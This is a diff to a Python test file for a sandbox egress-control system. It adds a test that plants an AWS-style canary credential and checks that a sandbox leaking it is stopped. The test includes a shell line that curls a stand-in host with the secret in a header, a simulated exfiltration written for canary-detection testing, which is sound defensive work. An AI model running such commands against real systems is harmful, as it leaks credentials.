@@ -22,7 +22,13 @@ from egress.fleet.opening import audit_folder
 from egress.fleet.protocol import About, Sandboxes
 from egress.fleet.service import Service
 from egress.runtime.docker.engine import Engine
-from egress.runtime.errors import GatewayError, SandboxExistsError, SpecError
+from egress.runtime.errors import (
+    GatewayError,
+    SandboxDiedError,
+    SandboxExistsError,
+    SandboxStateError,
+    SpecError,
+)
 from egress.runtime.fake import FakeRuntime
 from egress.runtime.gateway import ProxyGateway
 from egress.runtime.protocol import Runtime
@@ -285,6 +291,31 @@ def test_a_proxy_that_is_killed_is_followed_by_another_that_knows_the_sandbox(
         os.kill(proxy.pid, signal.SIGKILL)
         until(lambda: "one" in _known(folder), "it to be admitted again")
         assert fleet.exec("one", Command(argv=("true",))).exit_code == 0
+
+
+def test_one_that_sends_a_canary_that_stops_it_is_stopped(
+    namespaces: None, rules: Path, folder: Path
+) -> None:
+    rules.write_text(RULES + "canaries: {trap: {like: aws, env: TRAP, file: ~/.trap, stop: true}}\n")
+    with open_fleet(rules=[rules], runtime="namespace", runtime_dir=folder) as fleet:
+        for name in ("one", "two"):
+            fleet.create(Spec(name=name, image="host"))
+            fleet.start(name)
+        sleeping = fleet.spawn("one", Command(argv=("sleep", "300")))
+        script = 'curl -s -m 10 https://api.example.test/ -H "x: $TRAP"; sleep 300'
+        sending = fleet.spawn("one", Command(argv=("/bin/sh", "-c", script)))
+        for process in (sleeping, sending):
+            with pytest.raises(SandboxDiedError):
+                process.wait(60)
+        assert [each.state for each in fleet.list()] == ["stopped", "running"]
+        with pytest.raises(SandboxStateError, match="sent a canary"):
+            fleet.start("one")
+        assert fleet.exec("two", Command(argv=("true",))).exit_code == 0
+        # The next one of its name is another one.
+        fleet.remove("one")
+        fleet.create(Spec(name="one", image="host"))
+        fleet.start("one")
+        assert fleet.exec("one", Command(argv=("cat", "/home/sandbox/.trap"))).stdout.startswith(b"AKIA")
 
 
 def _known(folder: Path) -> str:
